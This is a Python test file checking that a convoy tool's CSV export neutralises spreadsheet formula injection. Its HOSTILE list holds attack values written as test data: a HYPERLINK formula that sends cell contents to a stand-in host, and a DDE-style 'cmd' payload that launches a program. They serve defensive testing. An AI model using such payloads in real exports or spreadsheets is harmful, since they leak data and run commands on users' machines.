"""The legs CSV read back by Python's csv module, with ids and places a hostile log could hold:
cells a spreadsheet would run as formulas (=, +, -, @, TAB, CR first) arrive as "'" + the text, in
one cell each; every other cell, and every number, arrives exactly as written (issue 17, finding 10)."""
import csv
import io

HOSTILE = [
    # (convoy, unit): ids the update log accepts (no spaces), each starting with a formula trigger
    ('=HYPERLINK("http://x.example/?"&A1,"click")', "main"),
    ("+cmd|'/Ccalc'!A0", "@SUM(A1:A9)"),
    ("-2+3", "=1+1"),
    ("safe-convoy", "a;b"),
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_log(path):
    rows = ["time,convoy,unit,parent,location,status,vehicles,people,source,quote,note,road"]
    for convoy, unit in HOSTILE:
        quoted = [f'"{field.replace(chr(34), chr(34) * 2)}"' for field in (convoy, unit)]
        for n, (time, place) in enumerate([("2017-08-28T09:00", "at Palmyra"), ("2017-08-29T09:00", "at Homs")]):
            rows.append(f"{time},{quoted[0]},{quoted[1]},,{place},moving,,,seeds/x.txt,\"q{n}\",,")
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")


def test_formula_cells_are_neutralised_and_everything_else_reads_back_exactly(convoy, tmp_path):
    log = tmp_path / "hostile.csv"
    hostile_log(log)
    out = tmp_path / "legs.csv"
    convoy("export", "--updates", str(log), "--format", "csv", "-o", str(out))
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    header, body = rows[0], rows[1:]
    assert header == ["convoy", "unit", "from", "to", "start", "end", "geodesic_m", "along_route_m", "speed_kmh"]
    assert sorted((r[0], r[1]) for r in body) == sorted(
        ("'" + c if c.startswith(TRIGGERS) else c, "'" + u if u.startswith(TRIGGERS) else u) for c, u in HOSTILE)
    for row in body:
        assert len(row) == len(header)
        for cell in row[:2]:
            # No cell a spreadsheet would evaluate.
            assert not cell.startswith(TRIGGERS), row
        assert row[2:4] == ["at Palmyra", "at Homs"]
        for number in row[6:]:
            float(number)  # numbers are written as numbers, never prefixed
    # The raw bytes quote every neutralised cell (so a separator inside it cannot split it).
    raw = out.read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"" in raw
    assert "\"a;b\"" in raw
    # Reading it as a semicolon-separated file (a spreadsheet in such a locale) keeps each formula text.
    for row in csv.reader(io.StringIO(raw), delimiter=";"):
        assert not any(cell.startswith(TRIGGERS) for cell in row), row
